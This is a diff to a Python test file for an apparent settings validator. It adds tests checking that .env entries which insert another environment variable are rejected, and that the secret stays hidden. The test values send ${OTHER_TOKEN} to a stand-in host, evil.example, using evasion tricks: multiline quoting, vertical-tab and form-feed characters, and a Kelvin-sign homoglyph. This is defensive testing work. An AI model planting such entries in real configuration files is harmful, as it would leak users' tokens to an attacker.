@@ -30,6 +30,7 @@ PAIRS: list[tuple[type[CommonSettings], str, str, dict[str, str]]] = [
     (ReceiverSettings, "RECEIVER_URL", EVIL, {"SIGNING_SECRETS": SECRET}),
     (ReceiverSettings, "RECEIVER_INTERNAL_URL", EVIL, {"SIGNING_SECRETS": SECRET}),
     (ReceiverSettings, "HOOK_URL", EVIL, {"HOOK_SECRET": HOOK_SECRET}),
+    (ReceiverSettings, "HOOKS_FILE", "/dev/null", {"SIGNING_SECRETS": SECRET}),
 ]
 
 
@@ -149,6 +150,26 @@ def test_a_dotenv_cannot_insert_a_variable_of_the_environment(place: Place, monk
         assert "hidden" not in " ".join(found)
     place.file.write_text("PATH=${PATH}:x\nKLING_API_KEY=a$b{c}\n")
     assert problems(ClientSettings) == []
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        'KLING_API_BASE="\nhttps://evil.example/${OTHER_TOKEN}"',  # a value of several lines
+        'KLING_API_BASE="https://evil.example/${OTHER_TOKEN:-\n}"',
+        "'KLING_API_BASE'=https://evil.example/${OTHER_TOKEN}",
+        "KLING_API_BASE=\x0bhttps://evil.example/${OTHER_TOKEN}",  # ends a line for Python, but not in this file
+        "KLING_API_BASE=\x0chttps://evil.example/${OTHER_TOKEN}",
+        "\u212aling_api_base=https://evil.example/${OTHER_TOKEN}",  # the Kelvin sign is a k in small letters
+    ],
+)
+def test_no_way_to_write_a_variable_evades_that(place: Place, monkeypatch: pytest.MonkeyPatch, lines: str) -> None:
+    """The file is parsed as the settings are."""
+    monkeypatch.setenv("OTHER_TOKEN", "hidden")
+    place.file.write_text(f"{lines}\n", encoding="utf-8")
+    found = problems(ClientSettings)
+    assert any("inserts another variable by ${...}." in each for each in found)
+    assert "hidden" not in " ".join(found)
 
 
 @pytest.mark.parametrize(
